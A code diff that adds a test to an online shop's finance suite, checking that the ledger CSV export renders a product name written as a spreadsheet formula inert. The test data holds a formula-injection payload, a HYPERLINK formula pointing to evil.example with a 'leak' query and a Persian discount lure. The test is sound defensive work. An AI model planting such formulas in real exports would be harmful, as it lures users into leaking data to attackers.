@@ -13,7 +13,7 @@ import { normalizeText } from '../../server/lib/persian'
 import { refreshProductSummaries } from '../../server/modules/catalog/summary'
 import { postDelivery } from '../../server/modules/finance/ledger'
 import { buyer } from './fixtures/discounts'
-import { makeCode, makeStore } from './fixtures/shop'
+import { makeCode, makeOffer, makeStore } from './fixtures/shop'
 import { ownerOf, storeOrder } from './fixtures/store-record'
 import { signInAdmin } from './fixtures/stores'
 import { describeEachDb, signIn, type TestClient } from './harness'
@@ -365,6 +365,29 @@ describeEachDb('finance', (server) => {
       expect(cells[4]).toBe(String(onlineOrder))
       expect(cells[5]).toBe(String(sales[i].amount))
     }
+  })
+
+  it('writes a product named as a formula inert in the CSV, and its commission debit as a number', async () => {
+    const shop = await makeStore(db())
+    const owner = await ownerOf(server(), shop as never)
+    const offer = await makeOffer(db(), shop.id, 200_000, 5)
+    const formula = '=HYPERLINK("http://evil.example/?leak","برای تخفیف کلیک کنید")'
+    await db().update(t.products).set({ nameFa: formula }).where(sql`id = ${offer.productId}`)
+    await storeOrder(owner, shop.id, offer.offerId, ['shipped', 'delivered'])
+    const res = await owner.api.GET('/stores/{store_id}/finance/ledger.csv', {
+      params: { path: { store_id: shop.id } },
+      parseAs: 'text',
+    })
+    const lines = (res.data as unknown as string)
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n')
+    // Cash on delivery: the store took the money, so its one entry is the commission it owes, named by the item.
+    const line = lines.find((l) => l.includes(',کارمزد,')) as string
+    // Quoted (it holds commas and quotes) and prefixed with ': Excel shows the text and runs nothing.
+    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""برای تخفیف کلیک کنید"")",`)
+    expect(lines.some((l) => /(^|,)"?[=+@]/.test(l))).toBe(false)
+    expect(line).toMatch(/",\d+,-\d+,در انتظار آزادسازی,/) // the order, then the debit: a plain number Excel sums
   })
 
   describe('access and bad input', () => {
